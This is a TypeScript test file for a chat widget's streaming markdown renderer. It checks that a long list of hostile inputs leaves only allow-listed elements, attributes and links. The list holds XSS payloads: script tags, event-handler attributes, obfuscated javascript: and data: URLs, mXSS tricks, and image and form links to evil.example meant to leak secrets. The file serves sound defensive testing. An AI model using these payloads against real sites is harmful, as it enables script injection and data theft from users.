import { expect } from '@open-wc/testing';
import { MarkdownStream } from '../../../widget/src/markdown.js';
import { ALLOWED } from '../../../widget/src/markdown/allowed.js';

declare global {
  var attacked: unknown;
}

const SCRIPT = 'globalThis.attacked=1';
const HOSTILE = [
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<details open ontoggle="${SCRIPT}">x</details>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<base href="https://evil.example/">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<form action="https://evil.example"><input name=q><button>x</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<!-- --!><img src=x onerror=${SCRIPT}> -->`,
  `<template shadowrootmode="open"><img src=x onerror=${SCRIPT}></template>`,
  `[x](javascript:${SCRIPT})`,
  `[x](JaVaScRiPt:${SCRIPT})`,
  `[x](&#106;avascript:${SCRIPT})`,
  `[x](javascript&colon;${SCRIPT})`,
  `[x](java&Tab;script:${SCRIPT})`,
  `[x](java\\script:${SCRIPT})`,
  `[x](<java\tscript:${SCRIPT}>)`,
  `[x](<\u0001javascript:${SCRIPT}>)`,
  `[x](vbscript:x)`,
  `[x](data:text/html,<script>${SCRIPT}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)`,
  `[x](blob:https://a.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](intent://evil#Intent;end)`,
  `[x](view-source:https://a.example)`,
  `<javascript:${SCRIPT}>`,
  `<data:text/html,x>`,
  `[x][r]\n\n[r]: javascript:${SCRIPT}`,
  `[x][r]\n\n[r]: <data:text/html,x> "t"`,
  `![x](javascript:${SCRIPT})`,
  `![x](data:image/svg+xml,<svg onload=${SCRIPT}>)`,
  `![x](https://evil.example/leak?secret)`,
  `![x][r]\n\n[r]: https://evil.example/leak?secret`,
  `[![x](https://evil.example/a.png)](javascript:${SCRIPT})`,
  `[x](https://a.example "\\" onmouseover=${SCRIPT} \\"")`,
  `[x](https://a.example/"onclick=${SCRIPT})`,
  '```"><script>' + SCRIPT + '</script>\ncode\n```',
  '``` x" onclick="' + SCRIPT + '\ncode\n```',
  `| <img src=x onerror=${SCRIPT}> | b |\n|---|---|\n| [x](javascript:${SCRIPT}) | <script>x</script> |`,
  `- [x] <img src=x onerror=${SCRIPT}>\n- [ ] [y](javascript:1)`,
  `# <img src=x onerror=${SCRIPT}>\n\n> <script>${SCRIPT}</script>`,
  `<__proto__> [__proto__] [constructor][toString]\n\n[__proto__]: https://a.example`,
  `\u202ehttps://evil.example\u202c <https://a.example/\u0000>`,
];

function offTheList(container: Element): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    const attributes = ALLOWED[element.localName];
    if (!attributes || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${element.localName}>`);
    for (const { name } of element.attributes) {
      if (!attributes?.includes(name)) found.push(`<${element.localName} ${name}>`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(https?|mailto):/.test(href)) found.push(href);
    if (href !== null && element.getAttribute('rel') !== 'noopener noreferrer nofollow ugc')
      found.push(`rel of ${href}`);
  }
  return found;
}

describe('hostile markdown', () => {
  let container: HTMLElement;
  beforeEach(() => {
    globalThis.attacked = undefined;
    container = document.createElement('div');
    document.body.append(container);
  });
  afterEach(() => container.remove());

  for (const source of HOSTILE) {
    it(`brings in nothing that is not on the list: ${source.slice(0, 60)}`, () => {
      const stream = new MarkdownStream(container);
      for (const character of source) {
        stream.write(character);
        stream.flush();
        expect(offTheList(container)).to.deep.equal([]);
      }
      stream.end();
      expect(offTheList(container)).to.deep.equal([]);
      for (const element of container.querySelectorAll<HTMLElement>('*:not(a)')) element.click();
      expect(globalThis.attacked).to.equal(undefined);
      expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil'))).to.deep.equal([]);
    });
  }

  it('would be caught by these checks if it did get in', () => {
    container.innerHTML = '<p onclick="x"><a href="javascript:x">x</a></p><svg></svg>';
    expect(offTheList(container)).to.deep.equal(['<p onclick>', 'javascript:x', 'rel of javascript:x', '<svg>']);
  });

  it('shows raw HTML as the text that it is', () => {
    const stream = new MarkdownStream(container);
    stream.write('Use <b>bold</b>.\n\n<div class="x">\n  <p>block</p>\n</div>\n');
    stream.end();
    expect([...container.children].map((block) => block.textContent)).to.deep.equal([
      'Use <b>bold</b>.',
      '<div class="x">\n  <p>block</p>\n</div>',
    ]);
  });
});
